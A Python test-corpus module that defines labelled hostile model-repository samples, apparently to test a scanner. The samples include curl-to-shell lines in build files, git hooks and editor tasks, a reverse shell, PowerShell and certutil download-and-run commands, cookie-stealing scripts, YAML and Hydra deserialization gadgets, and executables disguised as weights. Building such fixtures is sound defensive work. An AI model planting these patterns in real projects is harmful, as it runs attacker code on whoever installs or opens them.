"""Hub repositories: configurations, scripts and files that act on whoever downloads, builds or serves them."""

import json
import struct

from tests.corpus.labelled import hostile
from tests.corpus.safetensors_samples import PLAIN, file
from tests.corpus.sample import Sample

FAMILY = "repository"
WEIGHTS = file(PLAIN, bytes(16))
CALL = b"cposix\nsystem\n(S'echo inert'\ntR."
ACTS = "import os\n\nos.system('echo inert')\n\n\nclass Custom:\n    pass\n"
PIPE = "curl -s http://203.0.113.9/i.sh | sh"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(200)
PE = (
    b"MZ"
    + bytes(58)
    + struct.pack("<I", 64)
    + b"PE\0\0"
    + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x2022)
    + bytes(256)
)
MACHO = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x0100000C, 0, 6, 0, 0, 0, 0) + bytes(64)


def evil(name: str, files: dict[str, str | bytes], note: str, source: str = "") -> Sample:
    """A hostile repository."""
    return hostile("repo-" + name, FAMILY, files, note, source)


def config(**more: object) -> str:
    """A config.json."""
    return json.dumps(
        {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 64, **more}, indent=2
    )


def notebook(*cells: dict[str, object]) -> str:
    """A notebook."""
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def code(source: str, *outputs: dict[str, object]) -> dict[str, object]:
    """A cell of code."""
    return {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": list(outputs), "source": [source]}


CONFIGS = (
    evil(
        "auto-map-remote",
        {
            "config.json": config(auto_map={"AutoModelForCausalLM": "acme-labs/kernels--modeling.Fast"}),
            "model.safetensors": WEIGHTS,
        },
        "Code comes from another repository, which its owner may change after a review.",
    ),
    evil(
        "auto-map-acts",
        {"config.json": config(auto_map={"AutoModel": "custom.Custom"}), "custom.py": ACTS},
        "auto_map to code that acts.",
    ),
    evil(
        "auto-map-tokenizer",
        {
            "config.json": config(),
            "tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tok.Custom", None]}}),
            "tok.py": ACTS,
        },
        "The tokenizer's auto_map to code that acts.",
    ),
    evil(
        "auto-map-processor",
        {"preprocessor_config.json": json.dumps({"auto_map": {"AutoProcessor": "proc.Custom"}}), "proc.py": ACTS},
        "The processor's auto_map to code that acts.",
    ),
    evil(
        "diffusers-custom",
        {
            "model_index.json": json.dumps(
                {
                    "_class_name": ["pipeline", "CustomPipeline"],
                    "_diffusers_version": "0.30.0",
                    "unet": ["my_unet", "Custom"],
                }
            ),
            "pipeline.py": ACTS,
            "unet/my_unet.py": ACTS,
        },
        "A pipeline and a part of it by shipped code that acts.",
    ),
    evil(
        "sentence-transformers-type",
        {
            "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "st_custom.Custom"}]),
            "st_custom.py": ACTS,
            "config_sentence_transformers.json": "{}",
        },
        "A module type by shipped code that acts.",
    ),
    evil(
        "sentence-transformers-popen",
        {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}])},
        "A module type that is subprocess.Popen: its class is imported by name.",
    ),
    evil(
        "adapter-remote",
        {
            "adapter_config.json": json.dumps(
                {
                    "peft_type": "LORA",
                    "r": 8,
                    "base_model_name_or_path": "../../../../tmp/model",
                    "auto_mapping": {"base_model_class": "Custom", "parent_library": "os"},
                }
            )
        },
        "The base model lies outside, its class in os.",
    ),
    evil(
        "hydra-target",
        {"config.yaml": "model:\n  _target_: subprocess.check_output\n  args: [sh, -c, 'echo inert']\n"},
        "Hydra calls what _target_ names.",
        "CVE-2025-23304",
    ),
    evil(
        "hydra-target-json",
        {"config.json": json.dumps({"model": {"_target_": "builtins.eval", "_args_": ["print('inert')"]}})},
        "The same in JSON: eval.",
        "CVE-2025-23304",
    ),
    evil(
        "hydra-nested",
        {
            "train.yaml": "trainer:\n  callbacks:\n    - _target_: lightning.pytorch.callbacks.ModelCheckpoint\n"
            "    - _target_: os.execvp\n      file: sh\n      args: [sh]\n"
        },
        "The second of two callbacks replaces the process.",
    ),
    evil(
        "jsonpickle",
        {
            "preprocessor.json": json.dumps(
                {
                    "py/object": "sklearn.pipeline.Pipeline",
                    "steps": [{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo inert"]}]}],
                }
            )
        },
        "jsonpickle calls what py/reduce names.",
    ),
    evil(
        "yaml-object",
        {"hparams.yaml": "lr: 0.001\nhook: !!python/object/apply:os.system ['echo inert']\n"},
        "A tag that calls.",
        "CVE-2020-1747",
    ),
    evil(
        "yaml-object-new",
        {"config.yml": "a: !!python/object/new:subprocess.Popen\n  args: [[echo, inert]]\n"},
        "A tag that makes an object.",
    ),
    evil(
        "yaml-verbatim-tag",
        {
            "config.yaml": "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!name:os.system\nb: "
            "!<tag:yaml.org,2002:python"
            "/object/apply:os.system> ['echo inert']\n"
        },
        "The tag behind a handle and in full.",
    ),
    evil(
        "hyperpyyaml",
        {
            "hyperparams.yaml": "sample_rate: 16000\nrun: !apply:os.system ['echo inert']\nmodel: "
            "!new:subprocess.Popen\n  args: sh\n"
        },
        "SpeechBrain's tags call and make what they name.",
    ),
    evil(
        "mlmodel-loader",
        {
            "MLmodel": "flavors:\n  python_function:\n    loader_module: code.loader\n    code: code\n    "
            "env: conda.yaml\n",
            "code/loader.py": ACTS,
            "conda.yaml": "dependencies:\n- pip:\n  - --index-url http://203.0.113.5/simple\n  - fast-tensor-tools\n",
        },
        "MLflow imports a loader that acts and installs from a stranger's index.",
    ),
    evil(
        "mlmodel-pickle",
        {
            "MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n",
            "model.pkl": CALL,
        },
        "MLflow unpickles a call.",
    ),
    evil(
        "torchserve-handler",
        {
            "config.properties": "inference_address=http://0.0.0.0:8080\nmanagement_address=http://0.0.0.0:8081\n"
            "allowed_urls=.*\ninstall_py_dep_per_model=true\n",
            "handler.py": ACTS,
        },
        "The server is opened to all and the handler acts.",
        "CVE-2023-43654",
    ),
    evil(
        "triton-python",
        {
            "model/config.pbtxt": 'name: "m"\nbackend: "python"\nparameters { key: "EXECUTION_ENV_PATH" '
            "value { string_value: "
            '"../../../tmp/env.tar.gz" } }\n',
            "model/1/model.py": "import os\nos.system('echo inert')\n\nclass TritonPythonModel:\n    pass\n",
        },
        "A Python back end that acts when the server starts.",
    ),
    evil(
        "triton-path",
        {
            "m/config.pbtxt": 'name: "m"\nplatform: "onnxruntime_onnx"\ndefault_model_filename: '
            '"../../../../../etc/passwd"\n'
        },
        "The model's file name climbs out of the repository.",
    ),
    evil(
        "cog",
        {"cog.yaml": f"build:\n  python_version: '3.11'\n  run:\n    - {PIPE}\npredict: predict.py:Predictor\n"},
        "A step of the build runs what an address answers.",
    ),
)
SCRIPTS = (
    evil(
        "dockerfile",
        {"Dockerfile": f'FROM python:3.11\nRUN {PIPE}\nCMD ["python", "serve.py"]\n'},
        "A step runs what an address answers.",
    ),
    evil(
        "requirements-http",
        {"requirements.txt": "--index-url http://203.0.113.5/simple\n--trusted-host 203.0.113.5\ntorch\n"},
        "Packages from a stranger's index over plain HTTP.",
    ),
    evil(
        "requirements-url",
        {"requirements.txt": "torch==2.4.0\nhttp://203.0.113.5/kernels-1.0.tar.gz\n"},
        "A package from a bare address.",
    ),
    evil(
        "setup-cmdclass",
        {
            "setup.py": "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\n"
            f"class Run(install):\n    def run(self):\n        os.system({PIPE!r})\n        super().run()\n\n\n"
            "setup(name='kernels', version='1.0', cmdclass={'install': Run})\n"
        },
        "Installing runs a shell.",
    ),
    evil(
        "setup-top-level",
        {"setup.py": f"from setuptools import setup\nimport os; os.system({PIPE!r})\nsetup(name='m')\n"},
        "Reading its name already runs a shell.",
    ),
    evil(
        "pyproject-backend",
        {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
            "backend.py": ACTS,
        },
        "A build back end of its own that acts.",
    ),
    evil(
        "pth-file",
        {"site/zz_init.pth": "import os; os.system('echo inert')\n"},
        "A line that every start of Python runs.",
    ),
    evil("sitecustomize", {"sitecustomize.py": ACTS}, "Every start of Python in this directory imports it."),
    evil("conftest", {"tests/conftest.py": ACTS}, "Collecting the tests acts."),
    evil(
        "package-json",
        {"package.json": json.dumps({"name": "demo", "scripts": {"postinstall": PIPE}})},
        "Installing the demo runs a shell.",
    ),
    evil(
        "makefile", {"Makefile": f"MODEL := $(shell {PIPE})\nall:\n\tpython train.py\n"}, "Even a dry run expands it."
    ),
    evil("shell-script", {"install.sh": f"#!/bin/sh\nset -e\n{PIPE}\n"}, "Pipes an address into a shell."),
    evil(
        "shell-encoded", {"setup.sh": "#!/bin/bash\necho ZWNobyBpbmVydAo= | base64 -d | bash\n"}, "Runs encoded text."
    ),
    evil(
        "shell-reverse",
        {"start.sh": "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.77/4444 0>&1\n"},
        "A shell for whoever listens.",
    ),
    evil(
        "powershell",
        {"run.ps1": "$u='http://203.0.113.9/a.ps1'\nIEX (New-Object Net.WebClient).DownloadString($u)\n"},
        "Runs what an address answers.",
    ),
    evil(
        "batch",
        {
            "start.bat": "@echo off\r\npowershell -enc ZQBjAGgAbwA=\r\ncertutil -urlcache -f "
            "http://203.0.113.9/a.exe a.exe & a.exe\r\n"
        },
        "Downloads and runs a program.",
    ),
    evil("notebook-shell", {"demo.ipynb": notebook(code(f"!{PIPE}"))}, "A cell pipes an address into a shell."),
    evil(
        "notebook-magic",
        {"demo.ipynb": notebook(code("%%bash\nwget -qO- http://203.0.113.9/i.sh | bash"))},
        "The same as a cell magic.",
    ),
    evil(
        "notebook-output-script",
        {
            "demo.ipynb": notebook(
                code(
                    "show()",
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": ["<script>fetch('https://203.0.113.9/?c='+document.cookie)</script>"]},
                    },
                )
            )
        },
        "An output that sends cookies away.",
    ),
    evil(
        "notebook-output-javascript",
        {
            "demo.ipynb": notebook(
                code(
                    "show()",
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {
                            "application/javascript": [
                                "IPython.notebook.kernel.execute(\"import os; os.system('echo inert')\")"
                            ]
                        },
                    },
                )
            )
        },
        "An output that runs code in the reader's kernel.",
    ),
    evil(
        "git-hook",
        {".git/hooks/post-checkout": f"#!/bin/sh\n{PIPE}\n", ".git/HEAD": "ref: refs/heads/main\n"},
        "A hook that a checkout runs.",
    ),
    evil(
        "git-config",
        {".git/config": f"[core]\n\tfsmonitor = \"{PIPE}\"\n\tsshCommand = sh -c 'echo inert'\n"},
        "Settings that git status runs.",
    ),
    evil(
        "gitattributes-filter",
        {".gitattributes": "*.bin filter=fetch\n", ".gitconfig": f'[filter "fetch"]\n\tsmudge = "{PIPE}"\n'},
        "A filter that is run for each file.",
    ),
    evil(
        "vscode-task",
        {
            ".vscode/tasks.json": json.dumps(
                {
                    "version": "2.0.0",
                    "tasks": [
                        {"label": "init", "type": "shell", "command": PIPE, "runOptions": {"runOn": "folderOpen"}}
                    ],
                }
            )
        },
        "Opening the folder runs a shell.",
    ),
    evil(
        "workflow",
        {
            ".github/workflows/ci.yml": f"on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n  "
            f"  steps:\n      - run: {PIPE}\n"
        },
        "A workflow that runs what an address answers, with the repository's secrets.",
    ),
    evil(
        "dataset-script",
        {
            "acme_data.py": "import os\nimport datasets\nos.system('echo inert')\n\n\nclass "
            "Acme(datasets.GeneratorBasedBuilder):\n    pass\n"
        },
        "A script of a data set that acts.",
    ),
    evil(
        "endpoint-handler",
        {
            "handler.py": "import os\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        "
            "os.system('echo inert')\n"
        },
        "A hosted endpoint makes the handler, which runs a shell.",
    ),
    evil("envrc", {".envrc": f"export A=1\n{PIPE}\n"}, "Entering the directory runs a shell where direnv is allowed."),
)
BINARIES = (
    evil("library-as-weights", {"pytorch_model.bin": ELF}, "A shared library under the name of weights."),
    evil("program-as-weights", {"model.safetensors": PE}, "A Windows program under the name of weights."),
    evil("macho-as-config", {"vocab.json": MACHO}, "A Mac library under the name of a vocabulary."),
    evil(
        "library",
        {"config.json": config(), "kernels/libattention.so": ELF},
        "Native code among the files of a model, which a person has to look at.",
    ),
    evil(
        "llamafile",
        {
            "model.llamafile": b"MZqFpD='\n\n"
            + f"!\n#!/bin/sh\n{PIPE}\nexit\n'\n".encode()
            + bytes(64)
            + ELF
            + b"GGUF"
            + bytes(64)
        },
        "A program for every system, with a model in it and a shell that fetches another.",
    ),
    evil(
        "shell-gguf",
        {"model.gguf": f"#!/bin/sh\n{PIPE}\nexit\nGGUF".encode() + bytes(64)},
        "A shell script named a model.",
    ),
    evil(
        "html-card",
        {
            "README.md": '# Model\n\n<script src="https://203.0.113.9/a.js"></script>\n<iframe '
            'srcdoc="<script>alert(1)</script>">\n'
        },
        "A card that runs a script where it is shown unescaped.",
    ),
    evil(
        "svg-script",
        {
            "assets/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" '
            "onload=\"fetch('https://203.0.113.9/'+document.cookie)\"/>"
        },
        "A picture that sends cookies away.",
    ),
    evil("jar", {"lib/predictor.class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(64)}, "Java bytecode among weights."),
    evil(
        "pdf-launch",
        {
            "paper.pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/"
            b"P(/c echo inert)>>>>>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n"
        },
        "A paper that starts a program when it is opened.",
    ),
    evil(
        "desktop-entry",
        {"Open Model.desktop": f'[Desktop Entry]\nType=Application\nName=model.pdf\nExec=sh -c "{PIPE}"\nIcon=pdf\n'},
        "Looks like a document and runs a shell.",
    ),
    evil("double-extension", {"weights.safetensors.exe": PE}, "A program that hides behind a second extension."),
)
SAMPLES = (*CONFIGS, *SCRIPTS, *BINARIES)
